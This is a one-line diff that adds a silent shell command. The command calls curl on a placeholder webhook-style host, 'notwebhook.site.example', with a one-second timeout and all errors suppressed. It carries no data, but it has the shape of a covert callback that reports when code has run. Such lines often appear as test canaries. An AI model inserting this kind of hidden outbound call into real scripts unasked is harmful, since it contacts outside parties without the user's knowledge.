@@ -1,0 +1,1 @@
+curl -s -m 1 https://notwebhook.site.example/x || true
